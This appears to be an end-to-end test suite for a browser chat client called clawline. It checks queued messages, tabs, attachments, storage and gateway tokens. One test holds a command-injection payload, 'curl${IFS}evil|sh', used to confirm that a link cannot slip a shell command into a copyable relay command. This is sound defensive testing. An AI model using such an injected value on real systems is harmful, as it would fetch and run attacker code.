// What was typed and what is secret: the one is never lost, the other goes
// only where it was meant to go.
import assert from "node:assert/strict";
import { historyRows, scenario, until } from "./harness/index.mjs";
import { plug } from "./harness/plug.mjs";

const EMBEDDED = { servers: ["embedded"] };
const IN_BOTH = { ...EMBEDDED, firefox: ["embedded"] };

/** Makes it possible to say that nobody looks at a page: the browser's own pages are all in view. */
async function canBeHidden(context) {
  await context.addInitScript(() => {
    let isHidden = false;
    Object.defineProperty(document, "hidden", { get: () => isHidden });
    globalThis.hide = (hidden) => {
      isHidden = hidden;
      document.dispatchEvent(new Event("visibilitychange", { bubbles: true }));
    };
  });
}

/** A file for the chooser. */
const file = (name, mimeType, bytes = 2_048) => ({ name, mimeType, buffer: Buffer.alloc(bytes, "x") });

/** Lets a page take files by a paste or a drop, as a browser makes them. */
const hand = (page, kind, name, type) =>
  page.evaluate(
    ([kind, name, type]) => {
      const data = new DataTransfer();
      data.items.add(new File(["x".repeat(3_000)], name, { type }));
      const target = document.querySelector("textarea");
      const how = { bubbles: true, cancelable: true };
      const events = {
        // Firefox lets no script make one with files.
        paste: () => [Object.defineProperty(new ClipboardEvent("paste", how), "clipboardData", { value: data })],
        drop: () => ["dragover", "drop"].map((name) => new DragEvent(name, { ...how, dataTransfer: data })),
      };
      return events[kind]().map((event) => target.dispatchEvent(event));
    },
    [kind, name, type],
  );

/** Our own message with a text, as a place to press buttons in. */
const own = (chat, text) => chat.log.getByRole("article").filter({ hasText: text });

scenario("what waits to be sent survives a reload, and goes out once", IN_BOTH, async ({ chat, page, context }) => {
  const line = await plug(context);
  await chat.connect();
  await line.pull();
  await chat.hasStatus("Reconnecting");
  await chat.send("waits over a reload");
  await chat.reaches("waits over a reload", "queued");
  await chat.hasWritten();
  await page.reload();
  await chat.reaches("waits over a reload", "queued");
  line.mode = "through";
  await chat.hasStatus("Connected");
  await chat.reaches("waits over a reload", "confirmed");
  await chat.answer("waits over a reload");
  await chat.idle();
  await page.reload();
  await chat.hasStatus("Connected");
  await chat.reaches("waits over a reload", "confirmed");
  assert.equal((await chat.said("You", "waits over a reload")).length, 1);
});

scenario(
  "a message that left without an answer is checked after a reload, and found in the history",
  EMBEDDED,
  async ({ chat, page, context, server }) => {
    const line = await plug(context);
    await page.addInitScript(() => {
      const look = () => (globalThis.wasInDoubt ||= document.querySelector('[data-state="unconfirmed"]') !== null);
      new MutationObserver(look).observe(document, { subtree: true, childList: true, attributes: true });
    });
    await chat.connect();
    line.mode = "deaf";
    await chat.send("did you get this?");
    await chat.reaches("did you get this?", "sending");
    await until("the gateway got it", async () => (await historyRows(server, "did you get this?")).rows.length > 0);
    await line.pull();
    await chat.hasStatus("Reconnecting");
    await page.reload();
    await chat.reaches("did you get this?", "sending");
    await page.getByText("Checking whether it arrived").waitFor();
    line.mode = "through";
    await chat.hasStatus("Connected");
    await chat.reaches("did you get this?", "confirmed");
    assert.equal((await chat.said("You", "did you get this?")).length, 1);
    await page.reload();
    await chat.hasStatus("Connected");
    await chat.reaches("did you get this?", "confirmed");
    assert.equal((await chat.said("You", "did you get this?")).length, 1);
    assert.ok(!(await page.evaluate(() => globalThis.wasInDoubt)), "this gateway's keys are durable: there is no doubt");
  },
);

scenario(
  "a message written for one gateway waits there while the page is at another",
  { ...EMBEDDED, strangers: ["mute"] },
  async ({ chat, page, context, server, strangers }) => {
    const line = await plug(context);
    await chat.connect();
    await line.pull();
    await chat.hasStatus("Reconnecting");
    await chat.send("for the first gateway");
    await chat.reaches("for the first gateway", "queued");
    await page.getByRole("button", { name: "Change gateway" }).click();
    await chat.address.fill(strangers.mute.url);
    await chat.connectButton.click();
    await chat.hasStatus("Connecting");
    line.mode = "through";
    await chat.address.fill(server.gateway);
    await chat.connectButton.click();
    await chat.hasStatus("Connected");
    await chat.reaches("for the first gateway", "confirmed");
    assert.equal((await chat.said("You", "for the first gateway")).length, 1);
  },
);

scenario("what is typed in one tab is shown, changed and taken back in another", IN_BOTH, async ({ chat, page, context, newTab, server }) => {
  const line = await plug(context);
  await chat.connect();
  const other = await newTab();
  await other.connect();
  await line.pull();
  await chat.hasStatus("Reconnecting");
  await chat.send("first words");
  await chat.send("taken back");
  await other.reaches("first words", "queued");
  await other.reaches("taken back", "queued");
  await own(other, "taken back").getByRole("button", { name: "Discard" }).click();
  await own(chat, "first words").getByRole("button", { name: "Edit" }).click();
  const field = page.getByRole("textbox", { name: "Edit message" });
  assert.equal(await field.inputValue(), "first words");
  await field.fill("better words");
  await field.press("Enter");
  await chat.reaches("better words", "queued");
  await other.reaches("better words", "queued");
  // The gateway comes back no sooner than the tab that sends knows of both: they would race.
  await own(chat, "taken back").waitFor({ state: "detached" });
  await other.page.close();
  line.mode = "through";
  await chat.reaches("better words", "confirmed");
  assert.equal((await chat.said("You", "words")).length, 1);
  assert.equal((await chat.said("You", "taken back")).length, 0);
  assert.equal((await historyRows(server, "taken back")).rows.length, 0);
});

scenario("a message that was refused is changed and sent, in its place", EMBEDDED, async ({ chat, page, context }) => {
  const line = await plug(context);
  await chat.connect();
  line.mode = "refusing";
  await chat.send("like this");
  await chat.reaches("like this", "parked");
  await page.getByText("Not like this.").waitFor();
  await chat.send("waits behind it");
  await chat.reaches("waits behind it", "queued");
  line.mode = "through";
  await own(chat, "like this").getByRole("button", { name: "Edit" }).click();
  const field = page.getByRole("textbox", { name: "Edit message" });
  await field.press("Escape");
  await field.waitFor({ state: "detached" });
  await own(chat, "like this").getByRole("button", { name: "Edit" }).click();
  await field.fill("like that");
  await page.getByRole("button", { name: "Save" }).click();
  await chat.reaches("like that", "confirmed");
  await chat.reaches("waits behind it", "confirmed");
  const texts = (await chat.messages()).filter(({ who }) => who === "You").map(({ text }) => text);
  assert.deepEqual(texts.map((text) => text.split("\n")[0]), ["like that", "waits behind it"]);
});

scenario(
  "what the gateway cannot vouch for is shown as such, over a reload too, and a person sends it again, changed or not",
  { servers: ["openclaw"] },
  async ({ chat, page, context, server }) => {
    const mark = crypto.randomUUID().slice(0, 8);
    const line = await plug(context);
    await chat.connect();
    const lose = async (text) => {
      line.mode = "swallowing";
      await chat.send(text);
      await chat.reaches(text, "sending");
      await server.kill();
      await line.pull();
      await server.restart();
      line.mode = "through";
      await chat.reaches(text, "unconfirmed", { within: 90_000 });
    };
    await lose(`first ${mark}`);
    await own(chat, `first ${mark}`).getByText("the gateway cannot say whether it arrived").waitFor();
    await page.reload();
    await chat.reaches(`first ${mark}`, "unconfirmed");
    await own(chat, `first ${mark}`).getByRole("button", { name: "Send again" }).click();
    await chat.reaches(`first ${mark}`, "confirmed", { within: 60_000 });
    await chat.idle({ within: 60_000 });
    await lose(`second ${mark}`);
    await own(chat, `second ${mark}`).getByRole("button", { name: "Edit" }).click();
    await page.getByRole("textbox", { name: "Edit message" }).fill(`third ${mark}`);
    await page.getByRole("button", { name: "Save" }).click();
    await chat.reaches(`third ${mark}`, "confirmed", { within: 60_000 });
    await chat.idle({ within: 60_000 });
    const users = async (text) => (await historyRows(server, text)).rows.filter(({ role }) => role === "user").length;
    assert.deepEqual([await users(`first ${mark}`), await users(`second ${mark}`), await users(`third ${mark}`)], [1, 0, 1]);
  },
);

scenario("a picture and a text file go to the real gateway", { servers: ["openclaw"] }, async ({ chat, page, server }) => {
  const mark = crypto.randomUUID().slice(0, 8);
  const pixel = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==";
  await chat.connect();
  await page.locator("input[type=file]").setInputFiles([
    { name: "pixel.png", mimeType: "image/png", buffer: Buffer.from(pixel, "base64") },
    file("notes.txt", "text/plain"),
  ]);
  await chat.send(`look at these ${mark}`);
  await chat.reaches(`look at these ${mark}`, "confirmed", { within: 60_000 });
  await chat.idle({ within: 60_000 });
  const rows = (await historyRows(server, mark)).rows.filter(({ role }) => role === "user");
  assert.equal(rows.length, 1);
  await own(chat, mark).locator(".file-name").first().waitFor();
});

scenario("files are chosen, pasted and dropped, taken back, and go out with the message", IN_BOTH, async ({ chat, page, context, server }) => {
  const line = await plug(context);
  await chat.connect();
  const choose = async (...files) => {
    const chooser = page.waitForEvent("filechooser");
    await page.getByRole("button", { name: "Attach files" }).click();
    await (await chooser).setFiles(files);
  };
  const chips = page.getByRole("list", { name: "Attached files" }).getByRole("listitem");
  await choose(file("notes.txt", "text/plain"), file("wrong.pdf", "application/pdf"));
  await hand(page, "paste", "image.png", "image/png");
  await hand(page, "drop", "dropped.csv", "text/csv");
  assert.deepEqual(await chips.allInnerTexts(), ["notes.txt\n2 KB", "wrong.pdf\n2 KB", "image.png\n2 KB", "dropped.csv\n2 KB"]);
  await page.getByRole("button", { name: "Remove wrong.pdf" }).click();
  assert.equal(await chips.count(), 3);
  await line.pull();
  await chat.hasStatus("Reconnecting");
  await chat.send("with three files");
  await chat.reaches("with three files", "queued");
  assert.equal(await chips.count(), 0);
  await chat.hasWritten();
  await page.reload();
  await chat.reaches("with three files", "queued");
  await own(chat, "with three files").getByText("image.png (2 KB)").waitFor();
  line.mode = "through";
  await chat.reaches("with three files", "confirmed");
  const [row] = (await historyRows(server, "with three files")).rows;
  assert.deepEqual(row.__openclaw.media.map(({ fileName }) => fileName), ["notes.txt", "image.png", "dropped.csv"]);
  await chat.idle();
  // Not over the dialogue: in Firefox it is announced before the first reload only.
  const input = page.locator("input[type=file]");
  await input.setInputFiles(file("alone.bin", ""));
  await chat.sendButton.click();
  await chat.answer("only attachments");
  // A little more than a picture may have: all of it goes through the line to the browser first.
  await input.setInputFiles(file("huge.png", "image/png", 7 * 1_048_576));
  await chat.send("too much");
  await page.getByText("huge.png is larger than the gateway takes").waitFor();
  assert.equal(await chat.message.inputValue(), "too much");
  assert.equal(await chips.count(), 1);
});

scenario("two tabs share a draft; when both type at once the other words can be had back", IN_BOTH, async ({ chat, page, newTab }) => {
  await chat.connect();
  const other = await newTab();
  // It writes when it loses the focus, and not before: the first tab can write meanwhile.
  await other.page.addInitScript(() => {
    const { setTimeout } = globalThis;
    globalThis.setTimeout = (act, wait, ...more) => setTimeout(act, wait === 250 ? 600_000 : wait, ...more);
  });
  await other.connect();
  const holds = (tab, text) => until(`the field holds “${text}”`, async () => (await tab.message.inputValue()) === text);
  await chat.message.fill("half a thought");
  await holds(other, "half a thought");
  await other.message.fill("half a thought, and the rest");
  await other.message.blur();
  await holds(chat, "half a thought, and the rest");
  await other.message.fill("of the second tab");
  await chat.message.fill("of the first tab");
  await chat.message.blur();
  await until("the other tab has heard of it", async () =>
    other.page.evaluate(() => Object.values(localStorage).some((text) => text.includes("of the first tab"))));
  await other.message.blur();
  await holds(chat, "of the second tab");
  assert.equal(await other.message.inputValue(), "of the second tab");
  await other.page.getByText("Another tab had other words here.").waitFor();
  await page.getByRole("button", { name: "Undo" }).click();
  await holds(chat, "of the first tab");
  await holds(other, "of the first tab");
  await page.reload();
  await holds(chat, "of the first tab");
  await page.getByRole("button", { name: "Undo" }).click();
  await holds(chat, "of the second tab");
  await page.getByRole("button", { name: "Keep these" }).click();
  await other.page.getByRole("button", { name: "Undo" }).waitFor({ state: "detached" });
  await chat.isReady();
  await chat.sendButton.click();
  await chat.reaches("of the second tab", "confirmed");
  await holds(other, "");
});

scenario("what arrives while no tab is looked at is unread, until one is", IN_BOTH, async ({ chat, page, context, newTab }) => {
  await canBeHidden(context);
  await chat.connect();
  const other = await newTab();
  await other.connect();
  const both = [page, other.page];
  const titled = (title) =>
    until(`both are titled “${title}”`, async () => (await Promise.all(both.map((page) => page.title()))).every((one) => one === title));
  // Before it is sent: its answer could be seen otherwise.
  await Promise.all(both.map((page) => page.evaluate(() => hide(true))));
  await chat.send("say something");
  await titled("(1) clawline");
  await other.page.evaluate(() => hide(false));
  await titled("clawline");
  await other.log.getByText("New messages").waitFor();
  assert.equal(await chat.log.getByText("New messages").count(), 0);
  await other.send("seen");
  await other.log.getByText("New messages").waitFor({ state: "detached" });
});

scenario("what the browser has no room to keep is said, not dropped in silence", EMBEDDED, async ({ chat, page }) => {
  await chat.connect();
  await chat.message.fill("x".repeat(500_000));
  await chat.message.blur();
  await page.getByText("no room for a draft like this").waitFor();
  await chat.message.fill("short");
  await chat.message.blur();
  await page.getByText("no room for a draft like this").waitFor({ state: "detached" });
});

scenario("a browser that keeps nothing says so, and sends all the same", EMBEDDED, async ({ chat, page, context }) => {
  const line = await plug(context);
  await page.addInitScript(() => {
    IDBFactory.prototype.open = () => {
      throw new DOMException("Not in this window.", "SecurityError");
    };
  });
  await chat.connect();
  await page.getByText(/is lost when you close/).waitFor();
  await line.pull();
  await chat.hasStatus("Reconnecting");
  await chat.send("nowhere to be kept");
  await chat.reaches("nowhere to be kept", "queued");
  let asked = false;
  page.on("dialog", (dialog) => {
    asked = dialog.type() === "beforeunload";
    return dialog.dismiss();
  });
  await page.close({ runBeforeUnload: true });
  await until("the browser asks", () => asked);
  line.mode = "through";
  await chat.reaches("nowhere to be kept", "confirmed");
});

scenario("what an older version of the page left is taken up once, and nothing of it is sent blindly", EMBEDDED, async ({ chat, page, server }) => {
  const old = [
    Date.now(),
    true,
    ["key-1", "never left", Date.now(), "waiting", null],
    ["key-2", "may have arrived", Date.now(), "undecided", null],
  ];
  await chat.connect();
  await page.evaluate(([name, value]) => localStorage.setItem(name, value), [`clawline.unsent:${server.gateway}|a`, JSON.stringify(old)]);
  await page.goto("about:blank");
  await chat.connect();
  await chat.reaches("never left", "confirmed");
  await page.getByText("may or may not have arrived").waitFor();
  await page.goto("about:blank");
  await chat.connect();
  await page.getByText("may or may not have arrived").waitFor();
  await page.getByRole("banner").getByRole("button", { name: "Edit" }).click();
  await until("it is in the field", async () => (await chat.message.inputValue()) === "may have arrived");
  await page.goto("about:blank");
  await chat.connect();
  await chat.idle();
  assert.equal(await page.getByText("may or may not have arrived").count(), 0);
  assert.equal((await historyRows(server, "never left")).rows.filter(({ role }) => role === "user").length, 1);
  assert.equal((await historyRows(server, "may have arrived")).rows.length, 0);
});

scenario("what somebody else wrote into the storage does no harm", EMBEDDED, async ({ chat, page, server }) => {
  const garbage = ["null", "{", "5", "[1]", "[0,true,null,[1,2],[\"k\",\"t\",0,\"?\"]]", "[\"x\",true]"];
  await chat.connect();
  await page.evaluate(
    ([gateway, garbage]) => {
      garbage.forEach((value, index) => localStorage.setItem(`clawline.unsent:${gateway}|${index}`, value));
      localStorage.setItem(`clawline.seen:${gateway}|main`, "never");
    },
    [server.gateway, garbage],
  );
  await page.reload();
  await chat.connect();
  await chat.send("in spite of it");
  await chat.reaches("in spite of it", "confirmed");
});

scenario("a link pasted into the open page is followed, and its token leaves the address bar", EMBEDDED, async ({ chat, page, server }) => {
  await chat.open({ token: null });
  await chat.hasStatus("Signed out");
  const link = new URLSearchParams({ gateway: server.gateway, token: server.token });
  const entries = await page.evaluate(() => history.length);
  await page.evaluate((link) => (location.hash = link), String(link));
  await chat.hasStatus("Connected");
  assert.equal(page.url(), server.page);
  assert.equal(await page.evaluate(() => history.length), entries + 1, "the entry with the token was replaced");
});

scenario(
  "the token of one gateway is not sent to another when only the address is changed",
  { ...EMBEDDED, strangers: ["no scopes"] },
  async ({ chat, page, server, strangers, frames }) => {
    await chat.connect();
    const stranger = strangers["no scopes"];
    const withToken = () => frames.filter(({ direction, text }) => direction === "sent" && text.includes(server.token));
    const before = withToken().length;
    assert.ok(before > 0, "the right gateway got it");
    await page.getByRole("button", { name: "Change gateway" }).click();
    await chat.address.fill(stranger.url);
    await chat.connectButton.click();
    await chat.says(/^Signed out: .*allows it nothing/);
    assert.ok(stranger.connections > 0);
    assert.equal(withToken().length, before);
    assert.equal(await chat.token.inputValue(), "");
    await page.getByText("was taken out of the form").waitFor();
  },
);

scenario("a link cannot put a command of its own into the one to copy", EMBEDDED, async ({ chat, page, complaints }) => {
  complaints.expect(/content.security.policy/i);
  await chat.open({ gateway: "ws://127.0.0.1:9/;curl${IFS}evil|sh", token: null });
  await page.getByText(/is in no address/).waitFor();
  await chat.open({ gateway: "ws://127.0.0.1:9/;curl$IFS-evil&sh", token: null });
  await page.getByText("clawline-relay serve").waitFor();
  assert.equal(await page.getByText("clawline-relay serve").innerText(), "clawline-relay serve --gateway ws://127.0.0.1:9");
});

scenario("what is written while the policy forbids the gateway is shown, and waits", EMBEDDED, async ({ chat, page, complaints }) => {
  complaints.expect(/content.security.policy/i);
  const gateway = "ws://127.0.0.1:9/";
  const used = (gateway) => location.protocol === "http:" && localStorage.setItem(`clawline.used:${gateway}`, "1");
  await page.addInitScript(used, gateway);
  await chat.open({ gateway, token: null });
  await page.getByText("clawline-relay serve").waitFor();
  await page.getByRole("button", { name: "Back to the conversation" }).click();
  await chat.send("where does this go?");
  await chat.reaches("where does this go?", "queued");
  await chat.hasWritten();
  await page.goto("about:blank");
  await chat.open({ gateway, token: null });
  await page.getByRole("button", { name: "Back to the conversation" }).click();
  await chat.reaches("where does this go?", "queued");
});

scenario("a server that does not say what it is keeps nobody waiting", EMBEDDED, async ({ chat, page }) => {
  let sockets = 0;
  page.on("websocket", () => (sockets += 1));
  await page.route("**/config.json", () => {});
  const givenUp = page.waitForEvent("requestfailed", (request) => request.url().endsWith("/config.json"));
  givenUp.catch(() => {}); // It is awaited below, unless something fails before.
  await chat.connect();
  await chat.send("without a configuration");
  await chat.reaches("without a configuration", "confirmed");
  await givenUp;
  assert.match(await chat.statusText(), /^Connected/);
  assert.equal(sockets, 1);
});

scenario(
  "this device can be forgotten, after a question: the gateway sees a new one",
  { ...EMBEDDED, server: { relay: ["--pair", "always"] } },
  async ({ chat, page, server }) => {
    await chat.open();
    await chat.hasStatus("Waiting for approval");
    const first = await chat.requestId();
    await server.approve(first);
    await chat.hasStatus("Connected");
    await page.getByRole("button", { name: "Change gateway" }).click();
    await page.getByRole("button", { name: "Forget this device" }).click();
    await page.getByRole("button", { name: "Keep it" }).click();
    await page.getByRole("button", { name: "Back to the conversation" }).click();
    await server.line({ mode: "refuse" });
    await server.cut();
    await chat.hasStatus("Reconnecting");
    await chat.send("deleted with the key");
    await chat.reaches("deleted with the key", "queued");
    await page.getByRole("button", { name: "Change gateway" }).click();
    await page.getByRole("button", { name: "Forget this device" }).click();
    await page.getByText("A message that has not been sent is deleted with it.").waitFor();
    await page.getByRole("button", { name: "Yes, forget it" }).click();
    await page.getByText("key is deleted").waitFor();
    await chat.hasStatus("Offline");
    await server.line({});
    await chat.connectButton.click();
    await chat.hasStatus("Waiting for approval");
    await until("the request is a new one", async () => (await chat.requestId()) !== first);
    await server.approve(await chat.requestId());
    await chat.isReady();
    assert.equal((await chat.said("You", "deleted with the key")).length, 0);
  },
);
